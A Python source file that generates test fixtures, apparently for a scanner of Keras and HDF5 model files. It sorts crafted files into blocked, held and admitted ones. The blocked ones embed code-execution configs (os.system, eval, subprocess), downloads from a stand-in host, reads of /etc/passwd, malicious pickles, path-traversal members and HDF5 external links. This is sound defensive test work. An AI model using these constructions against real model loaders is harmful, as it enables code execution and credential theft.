"""Keras: .keras archives, HDF5 models and JSON, with layers and objects that run code.

Formats: ``keras/src/saving/saving_lib.py`` (config.json, metadata.json, model.weights.h5) and
``keras/src/legacy/saving/legacy_h5_format.py`` (the attribute model_config).
"""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator, Mapping

from assets import zips
from assets.hdf5 import Data, External, Group, Soft, UserLink, hdf5
from assets.opcodes import attack
from assets.shelf import ECHO, Draft, Link, admit, block, family, hold
from assets.zips import DEFLATED, Member

Config = dict[str, object]
METADATA = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-02@03:04:05"}).encode()
INPUT: Config = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "registered_name": None,
    "config": {"batch_shape": [None, 2], "dtype": "float32", "sparse": False, "name": "input_layer"},
}
MARSHALLED = "4wAAAAAAAAAAAAAAAAEAAAABAAAA8wIAAABTAA==\n"  # base64 of a code object's first bytes; loads as nothing


def dense(name: str = "dense", **more: object) -> Config:
    config = {"name": name, "trainable": True, "units": 2, "activation": "linear", "use_bias": True}
    return layer("keras.layers", "Dense", {**config, **more})


def layer(module: str, name: str, config: object, registered: str | None = None) -> Config:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def model(*layers: Config, first: Config | None = INPUT, **more: object) -> Config:
    config = {"name": "sequential", "trainable": True, "layers": [first, *layers] if first else list(layers)}
    return layer("keras", "Sequential", config) | more


KERNEL, BIAS = Data((0.0,) * 4, shape=(2, 2)), Data((0.0,) * 2)
DENSE = Group({"vars": Group({"0": KERNEL, "1": BIAS}, {"name": "dense"})})
WEIGHTS = hdf5(Group({"layers": Group({"dense": DENSE}), "vars": Group({}, {"name": "sequential"})}))


def keras(config: Config | str, weights: bytes = WEIGHTS, extra: Mapping[str, bytes] | None = None) -> bytes:
    """The archive that ``model.save("x.keras")`` writes."""
    text = config if isinstance(config, str) else json.dumps(config)
    return zips.named(
        {"metadata.json": METADATA, "config.json": text.encode(), "model.weights.h5": weights, **(extra or {})}
    )


NAMES = ["dense/kernel:0", "dense/bias:0"]


def h5(config: Config | str, wide: bool = True, **children: Group) -> bytes:
    """The older one-file format: the configuration is an attribute of the root."""
    text = config if isinstance(config, str) else json.dumps(config)
    attributes = {"keras_version": "2.15.0", "backend": "tensorflow", "model_config": text}
    held = Group({"dense": Group({"kernel:0": KERNEL, "bias:0": BIAS})}, {"weight_names": NAMES}, wide)
    weights = Group({"dense": held}, {"layer_names": ["dense"]}, wide)
    return hdf5(Group({"model_weights": weights, **children}, attributes, wide))


def lambda_layer(name: str = "lambda") -> Config:
    function = {"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None, "closure": None}}
    return layer("keras.layers", "Lambda", {"name": name, "function": function, "arguments": {}})


OLD_LAMBDA: Config = {
    "class_name": "Lambda",
    "config": {"name": "lambda", "function_type": "lambda", "function": [MARSHALLED, None, None]},
}

# Anything that from_config can be talked into calling.
DOORS: dict[str, tuple[Config, str]] = {
    "lambda": (lambda_layer(), "A Lambda layer, whose function is marshalled bytecode."),
    "lambda-renamed": (lambda_layer("dense_1"), "A Lambda layer that calls itself dense_1."),
    "lambda-nested": (
        layer("keras", "Sequential", {"name": "inner", "layers": [lambda_layer()]}),
        "A Lambda layer in a model in a model.",
    ),
    "lambda-wrapped": (
        layer("keras.layers", "TimeDistributed", {"name": "t", "layer": lambda_layer()}),
        "A Lambda layer inside TimeDistributed.",
    ),
    "os-system": (layer("os", "system", ECHO), "CVE-2025-1550: module os, class_name system."),
    "subprocess": (
        layer("subprocess", "run", {"args": ["echo", "freehold"]}),
        "CVE-2025-1550: module subprocess, class_name run.",
    ),
    "builtins-eval": (
        layer("builtins", "eval", "print('freehold')"),
        "CVE-2025-1550: module builtins, class_name eval.",
    ),
    "function-ref": (
        dense(activation=layer("builtins", "function", "eval", "function")),
        "CVE-2025-1550: an activation that is a reference to eval.",
    ),
    "activation-object": (dense(activation=layer("os", "system", {})), "An activation from the module os."),
    "initializer-object": (
        dense(kernel_initializer=layer("subprocess", "Popen", {"args": ["echo"]})),
        "An initialiser from subprocess.",
    ),
    "import-anything": (
        layer("antigravity", "Layer", {"name": "x"}),
        "A module that is imported for its side effects.",
    ),
    "get-file": (
        layer("keras.utils", "get_file", {"fname": "freehold", "origin": "http://freehold.invalid/x"}),
        "CVE-2025-8747: keras.utils.get_file downloads to the disk while loading.",
    ),
    "get-file-src": (
        dense(
            activation=layer(
                "keras.src.utils.file_utils",
                "get_file",
                {"fname": "freehold", "origin": "http://freehold.invalid/x", "extract": True},
            )
        ),
        "CVE-2025-8747 by the inner name, as an activation, unpacking what it fetches.",
    ),
    "load-lib": (layer("tensorflow", "load_library", "/tmp/freehold.so"), "tensorflow.load_library."),
    "config-flag": (
        layer("keras.config", "enable_unsafe_deserialization", {}),
        "A call that turns the guard off before the next layer.",
    ),
    "load-model": (
        layer("keras.models", "load_model", {"filepath": "http://freehold.invalid/m.keras", "safe_mode": False}),
        "A layer that loads another model, unguarded.",
    ),
    "tfsm": (
        layer("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/freehold"}),
        "TFSMLayer runs a graph from a folder of its choosing.",
    ),
    "string-lookup": (
        layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "/etc/passwd"}),
        "CVE-2025-12058: StringLookup reads its vocabulary from any path.",
    ),
    "string-lookup-url": (
        layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "gs://freehold.invalid/x"}),
        "CVE-2025-12058: and from any address.",
    ),
    "integer-lookup": (
        layer("keras.layers", "IntegerLookup", {"name": "i", "vocabulary": "/proc/self/environ"}),
        "IntegerLookup does the same.",
    ),
    "text-vectorization": (
        layer("keras.layers", "TextVectorization", {"name": "v", "vocabulary": "/etc/passwd", "standardize": None}),
        "TextVectorization does the same.",
    ),
    "op-numpy": (
        layer("numpy", "load", {"file": "/tmp/freehold.npy", "allow_pickle": True}),
        "numpy.load, with pickles allowed.",
    ),
    "torch-wrapper": (
        layer("keras.utils", "TorchModuleWrapper", {"name": "t", "module": MARSHALLED}),
        "TorchModuleWrapper unpickles a PyTorch module.",
    ),
    "jax-layer": (
        layer(
            "keras.layers",
            "JaxLayer",
            {"name": "j", "call_fn": {"class_name": "__lambda__", "config": {"code": MARSHALLED}}},
        ),
        "JaxLayer with a marshalled function.",
    ),
}


@family("keras")
def doors() -> Iterator[Draft]:
    """Each door in the new archive, and in turn in HDF5 and in bare JSON."""
    for position, (slug, (config, says)) in enumerate(DOORS.items()):
        yield block(slug, "model.keras", keras(model(config)), says)
        if position % 2:
            yield block(
                f"h5-{slug}", "model.h5", h5(model(config), wide=position % 4 == 1), f"In an HDF5 model: {says}"
            )
        elif position % 4 == 0:
            yield block(f"json-{slug}", "model.json", json.dumps(model(config)), f"In bare JSON: {says}")
    yield block(
        "old-lambda-h5",
        "model.h5",
        h5({"class_name": "Sequential", "config": {"name": "s", "layers": [OLD_LAMBDA]}}),
        "A Lambda layer as Keras 2 wrote it.",
    )
    yield block(
        "old-lambda-hdf5",
        "weights.hdf5",
        h5({"class_name": "Sequential", "config": [OLD_LAMBDA]}, wide=False),
        "The same as Keras 2.0 wrote it, in fixed-length text.",
    )
    yield block(
        "lambda-no-extension",
        "model",
        keras(model(lambda_layer())),
        "A Lambda layer in an archive without an extension.",
    )
    yield block("lambda-named-zip", "model.zip", keras(model(lambda_layer())), "The same, called .zip.")
    yield block(
        "lambda-deflated",
        "model.keras",
        zips.named(
            {
                "metadata.json": METADATA,
                "config.json": json.dumps(model(lambda_layer())).encode(),
                "model.weights.h5": WEIGHTS,
            },
            DEFLATED,
        ),
        "The same, compressed.",
    )
    yield block(
        "escaped",
        "model.keras",
        keras(json.dumps(model(lambda_layer())).replace("Lambda", "\\u004cambda")),
        "Lambda, spelt with an escape.",
    )
    yield block(
        "duplicate-key",
        "model.keras",
        keras(
            '{"module": "keras", "class_name": "Sequential", "config": "echo freehold", '
            '"module": "os", "class_name": "system"}'
        ),
        "Keys that appear twice: the last ones make os.system.",
    )
    yield block(
        "compile-config",
        "model.keras",
        keras(
            model(dense(), compile_config={"optimizer": "adam", "loss": layer("builtins", "eval", "print('freehold')")})
        ),
        "The loss in compile_config is builtins.eval.",
    )
    yield block(
        "build-config",
        "model.keras",
        keras(model(dense(), build_config=layer("os", "system", ECHO))),
        "build_config is os.system.",
    )
    yield block(
        "training-config-h5",
        "model.h5",
        hdf5(
            Group(
                {},
                {
                    "model_config": json.dumps(model(dense())),
                    "training_config": json.dumps({"loss": layer("os", "system", ECHO)}),
                },
            )
        ),
        "The loss in an HDF5 model's training_config is os.system.",
    )
    yield block(
        "lambda-functional",
        "model.keras",
        keras(
            layer(
                "keras",
                "Functional",
                {
                    "name": "f",
                    "layers": [INPUT, lambda_layer()],
                    "input_layers": [["input_layer", 0, 0]],
                    "output_layers": [["lambda", 0, 0]],
                },
            )
        ),
        "A Lambda layer in a functional model.",
    )
    unsafe = layer("keras.layers", "Dense", {"name": "d", "units": 1, "safe_mode": False})
    yield hold("unsafe-flag", "model.keras", keras(model(unsafe)), "A layer that sets safe_mode to false.")
    yield hold(
        "custom",
        "model.keras",
        keras(model(layer("acme.layers", "Fancy", {"name": "f"}, "acme>Fancy"))),
        "A layer of the publisher's own: code that is not here.",
    )
    yield hold(
        "custom-registered",
        "model.h5",
        h5(model({"class_name": "Custom>Fancy", "config": {"name": "f"}})),
        "The same in HDF5.",
    )
    yield hold("not-json", "model.keras", keras("{'class_name': 'Sequential'}"), "A configuration that is not JSON.")
    yield hold("deep", "model.keras", keras('{"config":' * 50_000 + "1" + "}" * 50_000), "A configuration 50,000 deep.")
    yield block(
        "pickle-inside",
        "model.keras",
        keras(model(dense()), extra={"assets/vocabulary": attack(0)}),
        "A malicious pickle among the assets.",
    )
    yield block(
        "climbs",
        "model.keras",
        keras(model(dense()), extra={"assets/../../freehold.txt": b"x"}),
        "An asset that climbs out of the archive.",
    )
    yield block(
        "weights-pickle",
        "model.keras",
        keras(model(dense()), weights=attack(4)),
        "A malicious pickle in place of the weights.",
    )
    yield block(
        "weights-npz",
        "model.keras",
        zips.named(
            {
                "metadata.json": METADATA,
                "config.json": json.dumps(model(dense())).encode(),
                "model.weights.npz": zips.named({"a.npy": attack(2)}),
            }
        ),
        "The weights as npz, with a pickle inside.",
    )
    yield block(
        "two-configs",
        "model.keras",
        zips.archive(
            [
                Member("metadata.json", METADATA),
                Member("config.json", json.dumps(model(dense())).encode()),
                Member("config.json", json.dumps(model(lambda_layer())).encode()),
                Member("model.weights.h5", WEIGHTS),
            ]
        ),
        "Two members called config.json.",
    )


@family("hdf5")
def links() -> Iterator[Draft]:
    """Ways out of an HDF5 file."""
    plain = Data((1.0, 2.0))
    yield block(
        "external-link",
        "model.weights.h5",
        hdf5(Group({"a": plain, "layers": External("/etc/hostname", "/x")})),
        "An external link to another file.",
    )
    yield block(
        "external-link-climbs",
        "weights.h5",
        hdf5(Group({"layers": Group({"dense": External("../../secret.h5", "/w")})})),
        "An external link that climbs, two groups deep.",
    )
    yield block(
        "external-link-keras",
        "model.keras",
        keras(model(dense()), hdf5(Group({"layers": External("/tmp/freehold.h5", "/")}))),
        "An external link in the weights of an archive.",
    )
    yield block(
        "external-link-model",
        "model.h5",
        h5(model(dense()), extra=Group({"x": External("other.h5")})),
        "An external link beside a model's weights.",
    )
    yield block(
        "external-data",
        "weights.h5",
        hdf5(Group({"a": Data((1.0, 2.0), ("/etc/passwd",))})),
        "A dataset whose bytes lie in /etc/passwd.",
    )
    yield block(
        "external-data-two",
        "weights.h5",
        hdf5(Group({"g": Group({"a": Data((1.0, 2.0), ("a.bin", "../../b.bin"))})})),
        "A dataset in two other files.",
    )
    yield hold(
        "user-link",
        "weights.h5",
        hdf5(Group({"a": plain, "u": UserLink(187, b"freehold")})),
        "A link of a class that the application defines.",
    )
    yield hold(
        "filter",
        "weights.h5",
        hdf5(Group({"a": Data((1.0, 2.0), (), 32015)})),
        "A filter that loads a plug-in from the machine.",
    )
    yield hold(
        "filter-unknown",
        "weights.h5",
        hdf5(Group({"a": Data((1.0, 2.0), (), 65000)})),
        "A filter that nobody registered.",
    )
    yield hold(
        "userblock",
        "weights.h5",
        hdf5(Group({"a": plain}), b"#!/bin/sh\necho freehold\n".ljust(512, b"\0")),
        "A shell script in the block before the file.",
    )
    yield block(
        "userblock-zip",
        "weights.h5",
        hdf5(Group({"a": plain})) + zips.named({"data.pkl": attack(2)}),
        "A malicious zip behind the file.",
    )
    yield hold(
        "trailing", "weights.h5", hdf5(Group({"a": plain})) + b"\x7fELF" + b"\1" * 60, "A program behind the file."
    )
    yield hold("cut", "weights.h5", hdf5(Group({"a": plain}))[:-8], "A file that is cut off.")
    yield hold(
        "cut-superblock", "weights.h5", hdf5(Group({"a": plain}))[:40], "A file that ends inside its superblock."
    )
    whole = bytearray(hdf5(Group({"a": plain})))
    root = struct.unpack_from("<Q", whole, 64)[0]
    yield hold(
        "root-beyond",
        "weights.h5",
        bytes(whole[:64] + struct.pack("<Q", 1 << 60) + whole[72:]),
        "A root group beyond the end of the file.",
    )
    loop = whole[: root + 16] + struct.pack("<HHB3xQQ", 16, 16, 0, root, 40) + whole[root + 40 :]
    yield hold("continuation-loop", "weights.h5", bytes(loop), "An object header that continues in itself.")
    many = whole[: root + 2] + struct.pack("<H", 0xFFFF) + whole[root + 4 :]
    yield hold("messages-65535", "weights.h5", bytes(many), "An object header that claims 65,535 messages.")
    at = hdf5(Group({"a": plain})).find(b"TREE")
    tree = bytearray(whole)
    tree[at + 5] = 9
    struct.pack_into("<Q", tree, at + 32, at)
    yield hold("tree-loop", "weights.h5", bytes(tree), "A B-tree whose child is itself.")
    yield block("pickle", "weights.h5", attack(4), "A malicious pickle, called .h5.")
    yield hold(
        "symlink",
        "",
        {"weights.h5": Link("../../../../../../etc/hostname")},
        "Weights that are a symbolic link out of the folder.",
    )


def functional() -> Config:
    """One Dense layer on one input, wired as Keras 3 writes it."""
    history = {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 2], "dtype": "float32", "keras_history": ["input_layer", 0, 0]},
    }
    wired = dense() | {"name": "dense", "inbound_nodes": [{"args": [history], "kwargs": {}}]}
    layers = [INPUT | {"name": "input_layer", "inbound_nodes": []}, wired]
    ends = {"input_layers": [["input_layer", 0, 0]], "output_layers": [["dense", 0, 0]]}
    config = {"name": "f", "trainable": True, "layers": layers, **ends}
    return layer("keras.src.models.functional", "Functional", config, "Functional")


@family("keras")
def sound() -> Iterator[Draft]:
    """Models of Keras's own layers."""
    yield admit("plain", "model.keras", keras(model(dense())), "A Sequential model with one Dense layer.")
    yield admit(
        "named-lambda",
        "model.keras",
        keras(model(dense("lambda_1"))),
        "A dense layer called lambda_1: the name is not the class.",
    )
    yield admit(
        "named-eval",
        "model.keras",
        keras(model(dense("eval"))),
        "A layer called eval.",
    )
    policy = layer("keras", "DTypePolicy", {"name": "float32"})
    glorot = layer("keras.initializers", "GlorotUniform", {"seed": None})
    full = dense(dtype=policy, kernel_initializer=glorot, bias_initializer=layer("keras.initializers", "Zeros", {}))
    yield admit(
        "objects",
        "model.keras",
        keras(model(full | {"build_config": {"input_shape": [None, 2]}})),
        "Initialisers and a policy of Keras's own.",
    )
    compiled = {
        "optimizer": layer("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}),
        "loss": "mse",
        "metrics": ["accuracy"],
    }
    yield admit("compiled", "model.keras", keras(model(dense(), compile_config=compiled)), "A compiled model.")
    lookup = layer(
        "keras.layers",
        "StringLookup",
        {"name": "s", "vocabulary": ["os.system", "eval", "/etc/passwd"], "mask_token": None},
    )
    yield admit(
        "string-lookup-list",
        "model.keras",
        keras(model(lookup, first=None)),
        "StringLookup with its words in the file: text, not a path.",
    )
    yield admit(
        "functional",
        "model.keras",
        keras(functional()),
        "A functional model.",
    )
    yield admit(
        "lstm",
        "model.keras",
        keras(model(layer("keras.layers", "LSTM", {"name": "lstm", "units": 2}), first=None)),
        "An LSTM layer.",
    )
    yield admit(
        "deflated",
        "model.keras",
        zips.named(
            {
                "metadata.json": METADATA,
                "config.json": json.dumps(model(dense())).encode(),
                "model.weights.h5": WEIGHTS,
            },
            DEFLATED,
        ),
        "The same, compressed.",
    )
    yield admit("no-extension", "model", keras(model(dense())), "The same without an extension.")
    old = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_shape": [None, 2], "name": "i"}},
                {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}},
            ],
        },
    }
    yield admit("h5", "model.h5", h5(model(dense())), "An HDF5 model, with its text as h5py writes it.")
    yield admit("h5-old", "model.h5", h5(old), "An HDF5 model as Keras 2 wrote it.")
    yield admit("h5-fixed", "model.hdf5", h5(old, wide=False), "The same with text of fixed length.")
    yield admit("json", "model.json", json.dumps(model(dense())), "The architecture alone, as JSON.")
    dotted = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"name": "dense_lambda", "units": 2}}]},
    }
    yield admit("json-old", "architecture.json", json.dumps(dotted), "The architecture as Keras 2 wrote it.")


@family("hdf5")
def weights() -> Iterator[Draft]:
    """Data alone."""
    yield admit("weights", "model.weights.h5", WEIGHTS, "Weights as Keras 3 saves them.")
    yield admit(
        "soft-link",
        "weights.h5",
        hdf5(Group({"a": Data((1.0,)), "alias": Soft("/a")})),
        "A soft link: it stays inside the file.",
    )
    yield admit(
        "new-group",
        "weights.h5",
        hdf5(Group({f"layer_{n}": Data((1.0, 2.0)) for n in range(12)})),
        "A group of the newer kind.",
    )
    yield admit("empty", "empty.h5", hdf5(Group({})), "A file with an empty root.")
    yield admit(
        "names",
        "weights.h5",
        hdf5(Group({"os.system": Data((1.0,)), "eval": Data((2.0,))}, {"note": "external link? no: text"})),
        "Datasets called after functions.",
    )
    yield admit("no-extension", "weights", hdf5(Group({"a": Data((1.0, 2.0))})), "A file without an extension.")
    words = Group({"a": Data((1.0,))}, {"weight_names": ["kernel:0", "bias:0"], "backend": "tensorflow"}, wide=False)
    yield admit("fixed-text", "weights.h5", hdf5(words), "Attributes of fixed length.")
